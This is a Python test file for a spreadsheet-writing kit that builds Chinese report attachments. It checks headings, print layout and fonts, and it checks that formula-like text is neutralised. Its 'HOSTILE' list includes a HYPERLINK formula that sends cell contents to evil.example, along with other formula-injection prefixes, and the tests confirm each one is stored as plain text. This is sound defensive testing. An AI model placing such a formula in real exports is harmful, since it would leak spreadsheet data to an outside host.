"""The one XLSX kit (documents/sheets.py) that every sheet is written with."""

from __future__ import annotations

import ast
import datetime as dt
import io
from pathlib import Path

import openpyxl
import pytest
from openpyxl import Workbook

from documents import sheets

DOCUMENTS = Path(__file__).resolve().parents[2] / "documents"


def reopen(wb: Workbook):
    return openpyxl.load_workbook(io.BytesIO(sheets.workbook_bytes(wb))).active


def test_an_attachment_heading_has_the_attachment_the_title_and_unit_and_period_rows():
    wb = Workbook()
    sheets.write_sheet_heading(wb.active, attachment="附件2", title="统计表", width=10, stamp="报送编号 1",
                               stamp_span=4, left="填表单位：浦东", right="数据周期：2023年7月")
    ws = reopen(wb)
    assert ws["A1"].value == "附件2" and ws["A1"].font.name == sheets.HEADING_FONT
    assert ws["G1"].value == "报送编号 1" and ws["G1"].alignment.horizontal == "right"
    assert ws["A2"].value == "统计表" and ws["A2"].font.b and ws["A2"].font.name == sheets.TITLE_FONT
    assert ws.row_dimensions[2].height == 32
    assert ws["A3"].value == "填表单位：浦东" and ws["F3"].value == "数据周期：2023年7月"
    assert {str(r) for r in ws.merged_cells.ranges} == {"G1:J1", "A2:J2", "A3:E3", "F3:J3"}


def test_a_heading_without_a_stamp_leaves_row_one_to_the_attachment():
    wb = Workbook()
    sheets.write_sheet_heading(wb.active, attachment="附件1", title="台账", width=7, stamp=None, stamp_span=2,
                               left="单位：全市", right="报送时间：…")
    ws = reopen(wb)
    assert [c.value for c in ws[1]] == ["附件1"] + [None] * 6
    assert "G1" not in {str(r) for r in ws.merged_cells.ranges}


def test_the_print_setup_is_landscape_a4_one_page_wide_with_repeated_header_rows():
    wb = Workbook()
    sheets.print_setup(wb.active, freeze="B6", title_rows="4:5")
    ws = reopen(wb)
    assert ws.freeze_panes == "B6" and ws.print_title_rows == "$4:$5"
    assert ws.page_setup.orientation == "landscape" and str(ws.page_setup.paperSize) == ws.PAPERSIZE_A4
    assert ws.page_setup.fitToWidth == 1 and ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage


def test_a_date_cell_stays_a_date_and_other_cells_keep_their_format():
    wb = Workbook()
    ws = wb.active
    sheets.dated(ws.cell(row=1, column=1, value=dt.date(2023, 7, 10)))
    sheets.dated(ws.cell(row=1, column=2, value="2023-07-10"))
    sheets.boxed(ws.cell(row=1, column=3, value="x"), sheets.body_font(), sheets.CENTER)
    sheets.set_widths(ws, [6, 28, 18])
    ws = reopen(wb)
    assert ws["A1"].is_date and ws["A1"].number_format == sheets.DATE_FORMAT
    assert not ws["B1"].is_date and ws["B1"].number_format == "General"
    assert ws["C1"].border.left.style == "thin" and ws["C1"].font.name == sheets.BODY_FONT
    assert [ws.column_dimensions[c].width for c in "ABC"] == [6, 28, 18]


def _imports(path: Path) -> set[str]:
    tree = ast.parse(path.read_text(encoding="utf-8"))
    found = {n.module for n in ast.walk(tree) if isinstance(n, ast.ImportFrom) and n.module}
    return found | {a.name for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names}


def test_the_attachment_writers_import_each_other_one_way_only():
    assert "documents.statistics_report" not in _imports(DOCUMENTS / "ledger_report.py")
    assert "documents.ledger_report" not in _imports(DOCUMENTS / "issue_list.py")


def test_borders_and_the_sheet_fonts_are_defined_in_the_kit_only():
    for path in DOCUMENTS.glob("*.py"):
        if path.name == "sheets.py":
            continue
        source = path.read_text(encoding="utf-8")
        for spelled in ("Border(", "Side(", "仿宋_GB2312", "黑体", "方正小标宋简体", "wb.save(", "BytesIO("):
            assert spelled not in source, f"{path.name} spells {spelled}"


# --- text stays text; what XLSX cannot hold is replaced (issue 9: exports) ------------------------------------

HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+1", "@SUM(A1)", "-2", "-5度", "\t=1+1", "\n=1+1",
           "＝1+1"]


def _written(values, *, write_only: bool = False):
    wb = Workbook(write_only=write_only)
    if write_only:
        ws = wb.create_sheet("x")
        ws.append([sheets.write_only_cell(ws, v) for v in values])
    else:
        ws = wb.active
        for column, value in enumerate(values, start=1):
            sheets.cell(ws, 1, column, value)
    return list(openpyxl.load_workbook(io.BytesIO(sheets.workbook_bytes(wb))).active[1])


@pytest.mark.parametrize("write_only", [False, True])
def test_a_text_that_looks_like_a_formula_is_written_as_that_exact_text_with_the_quote_prefix(write_only):
    cells = _written(HOSTILE, write_only=write_only)
    assert [c.value for c in cells] == HOSTILE  # nothing added or removed: "-5度" still reads "-5度"
    assert [c.data_type for c in cells] == ["s"] * len(HOSTILE)  # never "f": no live formula
    assert all(c.quotePrefix for c in cells)  # and it stays text when the cell is edited in Excel
    carriage = _written(["\r=1+1", "行一\r\n行二"], write_only=write_only)
    assert [(c.value, c.data_type, c.quotePrefix) for c in carriage] == [("\n=1+1", "s", True), ("行一\n行二", "s", False)]


@pytest.mark.parametrize("write_only", [False, True])
def test_plain_text_error_codes_numbers_and_dates_keep_their_types(write_only):
    cells = _written(["上海宏达", "#N/A", 5, -2, 1.5, dt.date(2023, 7, 10), None, "末"], write_only=write_only)
    assert [c.data_type for c in cells[:5]] == ["s", "s", "n", "n", "n"]
    assert [c.value for c in cells[:5]] == ["上海宏达", "#N/A", 5, -2, 1.5]
    assert not cells[0].quotePrefix and not cells[1].quotePrefix
    assert cells[5].is_date and cells[5].number_format == sheets.DATE_FORMAT and cells[6].value is None


@pytest.mark.parametrize("write_only", [False, True])
def test_characters_xlsx_cannot_hold_become_the_replacement_character(write_only):
    raw = ["响\x07铃", "\x00\x08\x0b\x0c\x0e\x1f", "行一\n行二\t列", "\ufffe\uffff"]
    cells = _written(raw, write_only=write_only)  # openpyxl alone raises IllegalCharacterError on the first
    assert [c.value for c in cells] == ["响\ufffd铃", "\ufffd" * 6, "行一\n行二\t列", "\ufffd\ufffd"]
    assert sheets.clean_text("x" * 40_000) == "x" * sheets.MAX_CELL_TEXT


def _sets_a_cell_directly(node: ast.AST) -> bool:
    """A cell written without the kit: ws.cell(…, value=…) or with a third argument, WriteOnlyCell(…),
    ws["A1"] = …, cell.value = …, or sheet.append([...]) of anything but the kit's cells."""
    if isinstance(node, ast.Call):
        func = node.func
        name = func.attr if isinstance(func, ast.Attribute) else getattr(func, "id", "")
        if name == "cell" and not (isinstance(func, ast.Attribute) and getattr(func.value, "id", "") == "sheets"):
            return len(node.args) > 2 or any(k.arg == "value" for k in node.keywords)
        if name == "WriteOnlyCell":
            return True
        receiver = getattr(func, "value", None)
        if name == "append" and getattr(receiver, "id", "") in ("ws", "sheet") and node.args and isinstance(node.args[0], (ast.List, ast.ListComp)):
            elements = node.args[0].elts if isinstance(node.args[0], ast.List) else [node.args[0].elt]
            return not all(isinstance(e, ast.Call) and isinstance(e.func, ast.Attribute)
                           and getattr(e.func.value, "id", "") == "sheets" for e in elements)
    if isinstance(node, (ast.Assign, ast.AugAssign)):
        targets = node.targets if isinstance(node, ast.Assign) else [node.target]
        return any(isinstance(t, ast.Subscript) or (isinstance(t, ast.Attribute) and t.attr == "value")
                   for t in targets)
    return False


def test_every_sheet_writer_sets_its_cells_through_the_kit():
    writers = [p for p in DOCUMENTS.glob("*.py") if p.name != "sheets.py" and "openpyxl" in p.read_text("utf-8")]
    assert {p.name for p in writers} >= {"item_export.py", "issue_list.py", "ledger_report.py", "statistics_report.py"}
    for path in writers:
        tree = ast.parse(path.read_text(encoding="utf-8"))
        offending = [n.lineno for n in ast.walk(tree) if _sets_a_cell_directly(n)]
        assert not offending, f"{path.name} writes cells outside documents.sheets.put at lines {offending}"
